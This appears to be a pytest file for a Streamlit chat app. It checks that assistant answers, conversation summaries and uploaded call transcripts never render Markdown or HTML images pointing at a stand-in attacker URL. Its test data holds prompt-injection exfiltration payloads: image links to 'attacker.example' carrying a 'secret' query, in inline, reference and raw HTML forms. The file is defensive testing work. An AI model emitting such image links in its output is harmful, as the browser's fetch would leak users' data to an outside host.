"""Model output and uploaded transcripts never make the browser fetch a remote image (a prompt-injection leak).

Each drawn Markdown text is rendered by a CommonMark renderer with raw HTML escaped, as Streamlit's st.markdown
does without unsafe_allow_html, and the result must hold no <img> and no attacker URL in any src."""

from __future__ import annotations

import re

from markdown_it import MarkdownIt
from ui_helpers import click, sign_in

ATTACKER = "https://attacker.example/?q=secret"
HOSTILE_ANSWER = (
    f"Here is your answer. ![x]({ATTACKER})\n\n"
    f'<img src="{ATTACKER}&raw=html">\n\n'
    "A reference too: ![logo][r]\n\n"
    f"[r]: {ATTACKER}&ref=1\n"
)
RUST = "let v = vec![1, 2];"

_COMMONMARK = MarkdownIt("commonmark", {"html": False})


def drawn_markdown(app) -> list[str]:
    return [str(element.value) for kind in ("markdown", "caption") for element in getattr(app, kind)]


def images_in(markdown_texts: list[str]) -> list[str]:
    """Every image element these Markdown texts render to (each one a fetch of its src)."""
    return re.findall(r"<img\b[^>]*>", "".join(_COMMONMARK.render(text) for text in markdown_texts))


def test_an_answer_with_markdown_and_html_images_draws_no_image(fake_api, app):
    # Given a conversation whose answer carries an injected image in every Markdown form, and raw HTML
    fake_api.add_conversation("alice", "Leaky", [("user", "Summarize my account"), ("assistant", HOSTILE_ANSWER)])

    # When alice opens it
    sign_in(app, "alice")

    # Then the answer's words are shown, but no image would be fetched
    assert not app.exception
    drawn = drawn_markdown(app)
    assert any("Here is your answer." in text for text in drawn)
    assert images_in(drawn) == []
    # (the check sees them: drawn as it was, the answer has an inline and a reference image)
    assert len(images_in([HOSTILE_ANSWER])) == 2


def test_code_with_an_image_opener_is_shown_exactly(fake_api, app):
    # Given an answer whose code block contains `![` (a Rust macro)
    answer = f"Try this:\n\n```rust\n{RUST}\n```\n\nand ![x]({ATTACKER})"
    fake_api.add_conversation("alice", "Rust", [("user", "A vector?"), ("assistant", answer)])

    # When alice opens it
    sign_in(app, "alice")

    # Then the prose around it draws no image, and the code still reads exactly as written
    assert images_in(drawn_markdown(app)) == []
    assert [element.value for element in app.code] == [RUST]


def test_a_summary_that_repeats_an_injected_image_draws_none(fake_api, app):
    # Given a conversation whose summary repeats an image the user pasted
    fake_api.add_conversation("alice", "Pasted", [("user", f"look ![x]({ATTACKER})"), ("assistant", "Seen.")])
    sign_in(app, "alice")

    # When the conversation is summarized
    click(app, "Summarize conversation")

    # Then the summary is shown without an image
    assert not app.exception
    drawn = drawn_markdown(app)
    assert any("The user talked about" in text for text in drawn)
    assert images_in(drawn) == []


def test_a_transcript_with_an_image_in_a_turn_draws_none(fake_api, app):
    # Given an uploaded call transcript with an image in a turn and in a speaker's name
    sign_in(app)
    app.switch_page("screens/transcripts.py")
    app.run()
    transcript = f"Agent: Hello.\nCustomer ![y](https//attacker.example/name): see ![x]({ATTACKER})\n".encode()
    app.file_uploader[0].set_value(("call.txt", transcript, "text/plain"))
    app.run()

    # When it is summarized and shown beside its turns
    click(app, "Upload and summarize")

    # Then turns, summary and facts are drawn without an image
    assert not app.exception
    drawn = drawn_markdown(app)
    assert any("see" in text and "attacker.example" in text for text in drawn)
    assert images_in(drawn) == []
